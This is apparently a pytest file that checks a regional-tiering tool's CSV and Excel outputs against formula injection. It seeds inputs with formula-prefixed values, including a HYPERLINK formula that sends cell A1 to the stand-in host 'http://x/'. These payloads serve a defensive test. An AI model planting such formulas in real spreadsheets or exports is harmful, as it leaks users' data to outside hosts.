"""No file of a run holds a formula, whatever regions, groups, tiers and kinds are called."""

from __future__ import annotations

import csv
import re
import unicodedata

import geopandas as gpd
import openpyxl
import pytest
from shapely import box

from hubtiers.framework import Framework, Group, Indicator

SIGNS = ["=", "+", "-", "@", "＝", "\t="]
EVIL = 'HYPERLINK("http://x/?"&A1)'
IDS = [f"{sign}{EVIL}{place}" for place, sign in enumerate(SIGNS)] + ["g", "h"]
STUDY = """
title_en = "=Study()"
[data]
regions = "land.geojson"
id_column = "code"
name = "title"
indicators = "values.csv"
framework = "framework.csv"
years = [2021, 2022]
year = 2022
[method]
impute = { method = "RequireCoverage", share = 0.5 }
weight = "FrameworkWeights"
tier = { method = "NaturalBreaks", k = 3, labels = ["=1+1", "@SUM(1)", "-3"] }
[compare]
weights = ["equal", "entropy"]
[robustness]
draws = 20
variation = { normalise = ["MinMax", "ZScore"], weights = "dirichlet" }
[propose]
counts = { "=1+1" = 1, "@SUM(1)" = 1 }
spacing = 1.0
[network]
[diffusion]
sources = ["g"]
[output]
tables = "both"
figures = false
report = false
"""


def value_of(place, year, code):
    """Return a number that grows with the place, differently in each column; one is missing."""
    return (
        "" if (place, code) == (3, "b") else 10 + place**2 + (year - 2020) * place * (code == "a")
    )


@pytest.fixture
def hostile(tmp_path):
    shapes = [box(place, 0, place + 1, 1) for place in range(len(IDS))]
    land = gpd.GeoDataFrame({"code": IDS, "title": IDS, "geometry": shapes}, crs=4326)
    land.to_file(tmp_path / "land.geojson", driver="GeoJSON")
    with (tmp_path / "values.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["region", "indicator", "value", "year"])
        for year in (2021, 2022):
            for place, region in enumerate(IDS):
                cells = [(region, code, value_of(place, year, code), year) for code in "ab"]
                writer.writerows(cells)
    named = {"name_zh": "=名()", "name_en": "+cmd()", "kind": "intensive"}
    indicators = [Indicator(code, parent="=g", unit="@u", source="-s", **named) for code in "ab"]
    Framework(tuple(indicators), (Group("=g", "=组()", "@Group()"),)).to_csv(
        tmp_path / "framework.csv"
    )
    (tmp_path / "own.toml").write_text(STUDY, encoding="utf-8")
    points = "".join(f"{place + 0.5},0.5,{region}\n" for place, region in enumerate("=+@-"))
    (tmp_path / "points.csv").write_text(f"lon,lat,kind\n{points}", encoding="utf-8")
    return tmp_path


def starts_formula(cell):
    first = unicodedata.normalize("NFKC", cell[:1])
    is_number = re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", cell)
    return first in tuple("=+-@\t\r\n") and cell != "" and not is_number


def test_no_table_holds_a_formula(hostile, hubtiers):
    commands = [
        "build own.toml --out o",
        "compare own.toml --weights equal,critic --tiers NaturalBreaks,EqualIntervals --out o",
        "robustness own.toml --draws 20 --out o",
        "propose own.toml --draws 5 --out p",
        "diffuse own.toml --from g --out d",
        "count points.csv --regions land.geojson --id code --name title --by kind --out o/counts.csv",
        "framework framework.csv --out o/framework.csv",
    ]
    for command in commands:
        run = hubtiers(*command.split(), cwd=hostile, timeout=300)
        assert run.returncode == 0, f"{command}\n{run.stderr}"
        assert "\x1b" not in run.stdout
    written = {path.name: path for path in hostile.glob("[opd]/*.csv")}
    assert {"scores.csv", "panel.csv", "by_option.csv", "tier_probability.csv"} <= written.keys()
    assert {"comparison.csv", "rank_interval.csv", "counts.csv", "diffusion.csv"} <= written.keys()
    assert {"cities_by_hub.csv", "links.csv", "gaps.csv", "framework.csv"} <= written.keys()
    neutral = 0
    for name, path in written.items():
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                assert not [cell for cell in row if starts_formula(cell)], name
                neutral += sum(cell.startswith("'") for cell in row)
    assert neutral > 200
    books = sorted(hostile.glob("[opd]/*.xlsx"))
    assert len(books) == 2
    for path in books:
        for sheet in openpyxl.load_workbook(path):
            cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
            assert not [cell.value for cell in cells if cell.data_type == "f"], (path, sheet)
            texts = [cell.value for cell in cells if isinstance(cell.value, str)]
            assert not [text for text in texts if starts_formula(text)], (path, sheet)
    assert Framework.from_csv(hostile / "o" / "framework.csv") == Framework.from_csv(
        hostile / "framework.csv"
    )
